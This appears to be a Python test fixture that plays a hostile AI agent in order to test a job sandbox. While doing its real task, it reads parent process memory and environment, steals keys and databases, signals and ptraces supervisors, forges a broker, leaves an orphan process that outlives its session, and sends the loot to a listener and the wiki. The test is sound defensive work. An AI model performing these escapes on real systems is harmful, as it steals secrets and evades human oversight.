# A hostile `command` agent for tests/it/runner/hostile.rs. It does its job
# (records the PRs, writes a valid receipt) and meanwhile tries every escape
# the isolation issue names, then publishes whatever it obtained to the wiki
# through its legitimate writer and sends it to a loopback listener.
# argv: mcp_config receipt config_path key_path data_dir listener_port other_job_dir
import ctypes, json, os, signal, socket, subprocess, sys, time

config_path, receipt_path, daemon_config, key_path, data_dir, port, other_job = sys.argv[1:8]
port = int(port)
task = sys.stdin.read()
data = json.loads(task.strip().splitlines()[-1])
loot = {}


def grab(name, action):
    try:
        value = action()
        if isinstance(value, bytes):
            value = {"text": value[:2048].decode("latin-1"), "hex": value[:1024].hex()}
        loot[name] = {"ok": True, "value": value}
    except BaseException as e:  # everything is a finding
        loot[name] = {"ok": False, "error": "%s: %s" % (type(e).__name__, e)}


def read(path, limit=1 << 16):
    with open(path, "rb") as f:
        return f.read(limit)


def ancestors():
    # The trampoline and the daemon above it; never further up (the test
    # process), so a sandbox that fails does not take the test run down.
    pids, pid = [], os.getppid()
    while pid > 1 and len(pids) < 2:
        pids.append(pid)
        with open("/proc/%d/status" % pid) as f:
            pid = int([l for l in f if l.startswith("PPid:")][0].split()[1])
    return pids


def procs_matching(word):
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                if word in read("/proc/%s/cmdline" % entry):
                    found.append(int(entry))
            except OSError:
                pass
    return found


grab("environ_self", lambda: dict(os.environ))
grab("ancestors", ancestors)
for pid in (ancestors() if loot["ancestors"]["ok"] else [os.getppid()]):
    for what in ("environ", "cmdline", "maps"):
        grab("proc_%d_%s" % (pid, what), lambda: read("/proc/%d/%s" % (pid, what)))
    grab("proc_%d_fd" % pid, lambda: [os.readlink("/proc/%d/fd/%s" % (pid, fd)) for fd in os.listdir("/proc/%d/fd" % pid)])
    grab("proc_%d_mem" % pid, lambda: open("/proc/%d/mem" % pid, "rb").read(16))
    grab("signal_%d" % pid, lambda: os.kill(pid, signal.SIGSTOP))
    grab("signal_term_%d" % pid, lambda: os.kill(pid, signal.SIGTERM))
    libc = ctypes.CDLL(None, use_errno=True)
    grab("ptrace_%d" % pid, lambda: (libc.ptrace(16, pid, 0, 0), ctypes.get_errno()))
grab("writer_pids", lambda: procs_matching(b"--wiki-writer"))
for pid in loot["writer_pids"].get("value", []) or []:
    grab("writer_%d_environ" % pid, lambda: read("/proc/%d/environ" % pid))
    grab("writer_%d_fd" % pid, lambda: [os.readlink("/proc/%d/fd/%s" % (pid, fd)) for fd in os.listdir("/proc/%d/fd" % pid)])
    grab("writer_%d_mem" % pid, lambda: open("/proc/%d/mem" % pid, "rb").read(16))
grab("daemon_config", lambda: read(daemon_config))
grab("app_key", lambda: read(key_path))
grab("database", lambda: read(os.path.join(data_dir, "teammem.db"), 4096))
grab("session_key", lambda: read(os.path.join(data_dir, "session.key")))
grab("data_dir_listing", lambda: os.listdir(data_dir))
grab("jobs_listing", lambda: os.listdir(os.path.join(data_dir, "jobs")))
grab("other_job", lambda: read(os.path.join(other_job, "evidence.json")))
grab("run_credentials", lambda: os.listdir("/run/credentials"))


def insert_token():
    import sqlite3
    db = sqlite3.connect(os.path.join(data_dir, "teammem.db"), timeout=1)
    db.execute("INSERT INTO api_tokens (name, token_hash, created_at) VALUES ('agent', 'x', 0)")
    db.commit()


grab("database_insert", insert_token)
grab("metadata_endpoint", lambda: socket.create_connection(("169.254.169.254", 80), timeout=1).close())
grab("write_outside", lambda: open(os.path.join(data_dir, "agent-was-here"), "w").write("x"))

# Its own writer, with a copied configuration whose git_url is the listener.
server = json.load(open(config_path))["mcpServers"]["teammem-wiki"]
teammem = server["command"]
grab("mcp_config", lambda: open(config_path).read())
copied = os.path.join(os.getcwd(), "copied.toml")


def copy_config():
    # The daemon's own file if it could be read, else one written from what
    # an agent can guess; either way with the listener as the git server.
    text = open(daemon_config).read() if loot["daemon_config"]["ok"] else (
        '[server]\ndata_dir = "%s"\n\n[github]\napi_url = "http://127.0.0.1:%d"\napp_id = 1\n'
        'private_key = { file = "%s" }\n\n[[sources]]\nrepository = "%s"\nwebhook_secret_env = "X"\n'
        % (os.path.join(os.getcwd(), "own-data"), port, key_path, data["repository"]))
    lines = [l for l in text.splitlines() if not l.startswith("git_url")]
    out = []
    for l in lines:
        out.append(l)
        if l.strip() == "[github]":
            out.append('git_url = "http://127.0.0.1:%d"' % port)
    with open(copied, "w") as f:
        f.write("\n".join(out) + "\n")
    return len(out)


grab("copy_config", copy_config)


def drive(argv, env, fds=()):
    child = subprocess.Popen(argv, env=env, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, pass_fds=fds)
    msgs = [{"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"protocolVersion": "2025-11-25",
             "capabilities": {}, "clientInfo": {"name": "hostile", "version": "0"}}},
            {"jsonrpc": "2.0", "method": "notifications/initialized"},
            {"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {"name": "get_wiki_snapshot",
             "arguments": {"repository": data["repository"]}}}]
    try:
        out, err = child.communicate("".join(json.dumps(m) + "\n" for m in msgs).encode(), timeout=20)
    except subprocess.TimeoutExpired:
        child.kill()
        out, err = child.communicate()
    return {"code": child.returncode, "out": out[-2000:].decode("latin-1"), "err": err[-2000:].decode("latin-1")}


base_env = {"TEAMMEM_CONFIG": copied, "TEAMMEM_WRITER_SOURCE": data["repository"], "PATH": "/usr/bin:/bin"}
grab("own_writer", lambda: drive([teammem, "mcp", "--wiki-writer"], base_env))


def own_writer_with_fake_broker():
    # Its own socket pair as "the broker", answering with the listener.
    ours, theirs = socket.socketpair()
    os.dup2(theirs.fileno(), 3)
    env = dict(base_env, TEAMMEM_WRITER_BROKER_FD="3")
    pid = os.fork()
    if pid == 0:
        ours.recv(4096)
        grant = {"ok": True, "binding": {"destination": {"source": data["repository"],
                 "wiki_repository": data["repository"], "forge": "github",
                 "git_url": "http://127.0.0.1:%d" % port}}}
        ours.sendall((json.dumps(grant) + "\n").encode())
        time.sleep(5)
        os._exit(0)
    try:
        return drive([teammem, "mcp", "--wiki-writer"], env, fds=(3,))
    finally:
        os.kill(pid, signal.SIGKILL)


grab("own_writer_fake_broker", own_writer_with_fake_broker)


def endpoint_as_broker():
    # Connect to the job's MCP endpoint, then exec a writer with that
    # connection as its descriptor 3 (connect, fork, exec).
    s = socket.socket(socket.AF_UNIX)
    s.connect(server["args"][-1])
    os.dup2(s.fileno(), 3)
    return drive([teammem, "mcp", "--wiki-writer"], dict(base_env, TEAMMEM_WRITER_BROKER_FD="3"), fds=(3,))


grab("endpoint_as_broker", endpoint_as_broker)


def sockets_in_job_dir():
    found = {}
    for name in os.listdir("."):
        if name.endswith(".sock"):
            s = socket.socket(socket.AF_UNIX)
            s.connect(name)
            s.sendall(b'{"request": "binding"}\n')
            s.settimeout(2)
            try:
                found[name] = s.recv(4096).decode("latin-1")
            except OSError as e:
                found[name] = str(e)
    return found


grab("job_dir_sockets", sockets_in_job_dir)


# A background child that leaves its session and outlives the agent.
def leave_a_child():
    r, w = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.write(w, str(os.getpid()).encode())
            os.close(w)
            time.sleep(1000)
            os._exit(0)
        os._exit(0)
    os.close(w)
    return int(os.read(r, 32))


grab("orphan", leave_a_child)

# The legitimate work, with the loot, through the job's writer.
from mcp_client import Writer, receipt
writer = Writer(config_path)
repo = data["repository"]
snapshot = writer.result("get_wiki_snapshot", {"repository": repo})
evidence = writer.result("get_job_evidence", {"repository": repo})
lines = ["- #%d %s" % (p["number"], p["merge_sha"]) for p in evidence["pull_requests"]]
text = json.dumps(loot, indent=1, sort_keys=True)
try:
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    s.sendall(("POST /loot HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(text)).encode() + text.encode())
    s.close()
except OSError as e:
    loot["listener"] = str(e)
written = writer.result("write_wiki_pages", {"repository": repo, "expected_wiki_repository": snapshot["wiki_repository"],
    "expected_base": snapshot["sha"], "message": "Team log from the hostile agent",
    "pages": [{"path": "Team-log.md", "content": "# Team log\n\n" + "\n".join(lines) + "\n"},
              {"path": "Loot.md", "content": "```\n" + text + "\n```\n"}]})
with open(receipt_path, "w") as f:
    json.dump(receipt(snapshot, written, data["evidence"]["pull_requests"], ["Team-log.md"]), f)
writer.close()
